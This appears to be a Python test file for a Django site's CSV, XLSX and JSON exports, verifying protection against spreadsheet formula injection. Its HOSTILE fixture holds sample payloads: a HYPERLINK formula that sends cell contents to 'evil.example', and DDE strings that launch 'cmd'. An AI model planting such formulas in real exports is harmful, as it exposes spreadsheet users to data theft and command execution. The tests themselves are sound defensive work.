"""CSV injection (OWASP): no text of the exports is a formula to a spreadsheet.

The CSV prefixes text cells starting with =, +, -, @, tab or CR with an apostrophe; the JSON
export and the API give the text as entered; the XLSX stores it as text (never a formula).
"""

import csv
import io
import json

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from initiatives.catalogue.opendata import formula_safe
from initiatives.models import Initiative
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "summary": "+cmd|' /C calc'!A0",
    "funding_sources": "-2+3+cmd|' /C calc'!A0",
    "outcomes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_name": "\t=1+1",
    "description": "\r=1+1",
}


@pytest.fixture
def hostile(association):
    initiative = f.InitiativeFactory(
        lead_organisation=association,
        status=Initiative.Status.PUBLISHED,
        published_at=timezone.now(),
        contact_consent=True,
        contact_email="contact@example.org",
        **HOSTILE,
    )
    plain = f.InitiativeFactory(
        lead_organisation=association,
        status=Initiative.Status.PUBLISHED,
        published_at=timezone.now(),
        title="Tablettes au collège",
    )
    return initiative, plain


def _download(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(client):
    text = _download(client.get("/initiatives/export.csv")).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return {row["slug"]: row for row in (dict(zip(rows[0], r, strict=True)) for r in rows[1:])}


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_safe_prefixes_each_trigger(trigger):
    assert formula_safe(f"{trigger}1+1") == f"'{trigger}1+1"
    assert formula_safe("Tablettes") == "Tablettes"
    assert formula_safe("") == ""


def test_csv_text_cells_never_start_with_a_formula_character(client, hostile):
    initiative, plain = hostile
    rows = _csv_rows(client)
    row = rows[initiative.slug]
    for name, value in HOSTILE.items():
        if name in row:
            assert row[name] == "'" + value, name
    for value in (cell for r in rows.values() for cell in r.values()):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[plain.slug]["title"] == "Tablettes au collège"


def test_csv_stays_valid_against_its_table_schema(client, hostile):
    """The apostrophe fits the schema: string lengths, enums and patterns still hold."""
    import re

    schema = client.get("/initiatives/schema.json").json()
    assert "apostrophe" in schema["description"]
    fields = {field["name"]: field for field in schema["fields"]}
    initiative, _plain = hostile
    Initiative.objects.filter(pk=initiative.pk).update(title="=" + "x" * 199)
    for row in _csv_rows(client).values():
        for name, value in row.items():
            constraints = fields[name].get("constraints", {})
            if value == "":
                assert not constraints.get("required"), name
                continue
            if "maxLength" in constraints:
                assert len(value) <= constraints["maxLength"], name
            if "enum" in constraints:
                assert value in constraints["enum"], name
            if "pattern" in constraints:
                assert re.fullmatch(constraints["pattern"], value), name


def test_json_export_and_api_give_the_text_as_entered(client, hostile):
    initiative, _plain = hostile
    records = json.loads(_download(client.get("/initiatives/export.json")))
    record = next(r for r in records if r["slug"] == initiative.slug)
    for name, value in HOSTILE.items():
        if name in record:
            assert record[name] == value, name
    api = client.get(f"/api/v1/initiatives/{initiative.slug}/").json()
    assert api["title"] == HOSTILE["title"]
    assert api["summary"] == HOSTILE["summary"]


def test_xlsx_stores_the_text_as_text_never_as_a_formula(client, hostile):
    initiative, _plain = hostile
    workbook = load_workbook(io.BytesIO(_download(client.get("/initiatives/export.xlsx"))))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        record = dict(zip(header, row, strict=True))
        if record["slug"].value != initiative.slug:
            continue
        for name, value in HOSTILE.items():
            if name in record:
                cell = record[name]
                assert cell.data_type == "s", (name, cell.data_type)
                # XML turns a carriage return into a line feed; the text is otherwise intact.
                assert cell.value == value.replace("\r", "\n"), name
        break
    else:
        raise AssertionError("the hostile initiative is missing from the XLSX export")
